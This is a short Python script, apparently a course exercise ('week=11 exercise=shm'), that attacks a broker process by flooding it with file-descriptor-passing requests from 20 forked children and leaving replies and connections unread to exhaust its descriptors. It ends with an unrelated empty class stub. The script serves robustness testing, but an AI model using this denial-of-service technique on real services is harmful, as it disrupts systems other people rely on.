"""Asks for descriptors that it never fetches, so that they stay on their way, as many as it can."""
# attack: week=11 exercise=shm
import json
import os
import select
import socket

kept = []


def asked(kind, name, size=0, descriptors=()):
    ours, theirs = socket.socketpair()
    message = json.dumps({"kind": kind, "name": name, "size": size}).encode()
    socket.send_fds(socket.socket(fileno=4), [message], [theirs.fileno(), *descriptors])
    return ours, theirs


def leave(count):
    """Leave answers unread in few sockets, and connections unaccepted."""
    listening, published = socket.socketpair()
    asked("publish", f"there {os.getpid()}", 0, [published.fileno()])
    ours, theirs = socket.socketpair()
    kept.extend([listening, ours])
    broker = socket.socket(fileno=4)
    for number in range(count):
        for kind, name in (("open", "@MARK@"), ("connect", f"there {os.getpid()}")):
            message = json.dumps({"kind": kind, "name": name}).encode()
            try:
                socket.send_fds(broker, [message], [theirs.fileno(), mine])
            except OSError as error:
                print(number, error)


mine = os.open("/dev/null", os.O_RDONLY)
asked("create", "@MARK@")
for _ in range(20):
    if os.fork() == 0:
        leave(300)
        select.poll().poll(15_000)
        os._exit(0)
select.poll().poll(15_000)


class SharedMatrix:
    pass
